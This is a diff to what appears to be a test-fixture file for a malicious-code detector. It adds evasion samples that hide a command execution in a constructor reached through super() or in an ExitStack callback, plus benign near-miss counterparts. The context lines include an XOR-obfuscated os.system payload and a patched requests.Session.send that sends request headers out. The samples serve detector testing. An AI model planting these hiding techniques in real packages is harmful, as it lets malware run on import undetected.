@@ -119,6 +119,14 @@ EVASIONS: dict[str, dict[str, str]] = {
         f"    {POST.format(data='str(req.headers).encode()')}\n\n\n"
         "def patch(klass, fn):\n    klass.send = fn\n\n\npatch(requests.Session, send)\n"
     ),
+    "base-constructor-through-super": _init(
+        f"import os\n\n\nclass A:\n    def __init__(self):\n        {RUN}\n\n\n"
+        "class B(A):\n    def __init__(self):\n        super().__init__()\n\n\nB()\n"
+    ),
+    "exit-stack-callback": _init(
+        f"import contextlib, os\n\n\ndef f():\n    {RUN}\n\n\n"
+        "with contextlib.ExitStack() as stack:\n    stack.callback(f)\n"
+    ),
     "xor-table-over-more-keys-than-fold": _init(
         "K = 7\nT = {i: i ^ K for i in range(65536)}\n"
         f"D = bytes({_xored('import os;os.system(' + repr('id') + ')', 7)})\n"
@@ -257,6 +265,14 @@ NEAR_MISSES: dict[str, dict[str, str]] = {
         "    env = env if env is not None else dict(os.environ)\n"
         "    subprocess.check_output(cmd, stderr=subprocess.STDOUT, env=env)\n\n\n"
         "replace_method(CCompiler, 'spawn', spawn)\n"
+    ),
+    "constructors-chained-through-super": _init(
+        "class A:\n    def __init__(self, n):\n        self.n = n\n\n\n"
+        "class B(A):\n    def __init__(self):\n        super().__init__(1)\n\n\nDEFAULT = B()\n"
+    ),
+    "exit-stack-closing-files": _init(
+        "import contextlib\n\n\ndef _cleanup():\n    return None\n\n\n"
+        "with contextlib.ExitStack() as stack:\n    stack.callback(_cleanup)\n"
     ),
     "large-table-of-data": _init(
         "T = {i: i ^ 0x5A for i in range(65536)}\nDATA = bytes(T[b] for b in b'hello')\n"
